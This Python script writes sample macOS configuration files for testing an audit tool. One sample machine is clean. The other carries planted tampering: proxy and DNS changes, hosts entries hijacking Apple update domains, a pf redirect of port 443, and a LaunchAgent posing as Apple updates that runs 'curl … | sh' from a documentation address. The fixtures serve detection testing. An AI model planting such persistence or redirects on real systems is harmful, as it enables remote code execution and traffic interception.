#!/usr/bin/env python3
"""Writes examples/audit/: the files of two Macs, as a triage folder has them, for `lunette audit`. `healthy` is as it came; on `altered`
somebody put a proxy and a resolver into the settings, lines into /etc/hosts, a redirection into pf, an agent that fetches code, and a VPN.

    examples/make_audit.py [FOLDER]

Names are invented; addresses are those that RFC 5737 keeps for documentation."""
import pathlib
import plistlib
import shutil
import sys

WIFI, LAN, OFFICE = "5B7A1C00-0000-4000-8000-000000000001", "5B7A1C00-0000-4000-8000-000000000002", "5B7A1C00-0000-4000-8000-000000000003"
AUTOMATIC = "5B7A1C00-0000-4000-8000-0000000000AA"
PF = """#
# com.apple anchor point
#
scrub-anchor "com.apple/*"
nat-anchor "com.apple/*"
rdr-anchor "com.apple/*"
%sdummynet-anchor "com.apple/*"
anchor "com.apple/*"
load anchor "com.apple" from "/etc/pf.anchors/com.apple"
"""
HOSTS = "127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n"


def service(name, device, hardware, **more):
    return {"UserDefinedName": name, "DNS": {}, "IPv4": {"ConfigMethod": "DHCP"}, "IPv6": {"ConfigMethod": "Automatic"},
            "Interface": {"DeviceName": device, "Hardware": hardware, "Type": "Ethernet", "UserDefinedName": name},
            "Proxies": {"ExceptionsList": ["*.local", "169.254/16"], "FTPPassive": 1}, **more}


def preferences(services):
    return {"__VERSION__": "20191120", "Model": "MacBookPro18,3", "CurrentSet": "/Sets/" + AUTOMATIC, "NetworkServices": services,
            "Sets": {AUTOMATIC: {"UserDefinedName": "Automatic", "Network": {
                "Global": {"IPv4": {"ServiceOrder": list(services)}},
                "Service": {key: {"__LINK__": "/NetworkServices/" + key} for key in services}}}},
            "System": {"System": {"ComputerName": "Anna's MacBook Pro"}, "Network": {"HostNames": {"LocalHostName": "Annas-MacBook-Pro"}}}}


def interface(name, mac, kind, title, builtin):
    return {"BSD Name": name, "IOMACAddress": bytes.fromhex(mac), "SCNetworkInterfaceType": kind, "IOBuiltin": builtin,
            "SCNetworkInterfaceInfo": {"UserDefinedName": title}}


def write(root, path, content, form=plistlib.FMT_XML):
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(content.encode() if isinstance(content, str) else plistlib.dumps(content, fmt=form, sort_keys=False))


def common(root, services, pf="", hosts=""):
    settings = "Library/Preferences/SystemConfiguration/"
    write(root, settings + "preferences.plist", preferences(services))
    write(root, settings + "NetworkInterfaces.plist", {"Model": "MacBookPro18,3", "Interfaces": [
        interface("en0", "f018985e2107", "IEEE80211", "Wi-Fi", True), interface("en7", "f018985e2120", "Ethernet", "USB LAN", False)]})
    write(root, "System/Library/CoreServices/SystemVersion.plist",
          {"ProductName": "macOS", "ProductVersion": "14.4.1", "ProductBuildVersion": "23E224"})
    write(root, "private/etc/hosts", HOSTS + hosts)
    write(root, "private/etc/pf.conf", PF % pf)
    write(root, "private/etc/pf.anchors/com.apple", 'anchor "200.AirDrop/*"\nanchor "250.ApplicationFirewall/*"\n')


def healthy(root):
    common(root, {WIFI: service("Wi-Fi", "en0", "AirPort"), LAN: service("USB LAN", "en7", "Ethernet")})
    write(root, "Library/LaunchAgents/com.example.notes.helper.plist",
          {"Label": "com.example.notes.helper", "ProgramArguments": ["/Applications/Notes Plus.app/Contents/MacOS/Helper"], "RunAtLoad": True})


def altered(root):
    wifi = service("Wi-Fi", "en0", "AirPort", DNS={"ServerAddresses": ["203.0.113.53", "9.9.9.9"]})
    wifi["Proxies"].update({"HTTPEnable": 1, "HTTPProxy": "127.0.0.1", "HTTPPort": 8080, "HTTPSEnable": 1, "HTTPSProxy": "127.0.0.1", "HTTPSPort": 8080})
    office = {"UserDefinedName": "Office", "Interface": {"Type": "PPP", "SubType": "L2TP", "UserDefinedName": "L2TP"},
              "IPv4": {"ConfigMethod": "PPP"}, "PPP": {"CommRemoteAddress": "198.51.100.20"}, "Proxies": {}}
    common(root, {WIFI: wifi, LAN: service("USB LAN", "en7", "Ethernet"), OFFICE: office},
           pf="rdr pass on lo0 inet proto tcp from any to any port 443 -> 127.0.0.1 port 8443\n",
           hosts="203.0.113.9 swscan.apple.com swdist.apple.com\n")
    write(root, "private/etc/resolver/corp.example", "nameserver 10.20.0.53\n")
    write(root, "Users/anna/Library/LaunchAgents/com.apple.updates.plist",
          {"Label": "com.apple.updates", "StartInterval": 600, "RunAtLoad": True,
           "ProgramArguments": ["/bin/sh", "-c", "curl -fsS http://203.0.113.9/u | sh"]}, plistlib.FMT_BINARY)


def main():
    folder = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else pathlib.Path(__file__).resolve().parent / "audit"
    for make in (healthy, altered):
        shutil.rmtree(folder / make.__name__, ignore_errors=True)
        make(folder / make.__name__)


if __name__ == "__main__":
    main()
